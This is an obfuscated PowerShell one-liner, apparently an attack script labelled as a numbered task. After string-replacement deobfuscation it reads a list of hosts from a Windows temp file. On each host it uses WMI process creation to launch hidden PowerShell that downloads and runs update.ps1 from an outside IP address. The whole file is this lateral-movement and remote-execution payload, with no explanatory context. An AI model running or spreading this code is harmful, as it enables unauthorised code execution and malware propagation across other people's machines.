iex (('# task 5363 v4
$targets KXQ84= Get-xv~1ontent xv~1:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMKXQ84ethod -xv~1omputerName $t -xv~1lass Win32_Process -Name xv~1reate -ArgumentList "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/update.ps1)"
}
' -replace 'KXQ84','').Replace('xv~1','C'))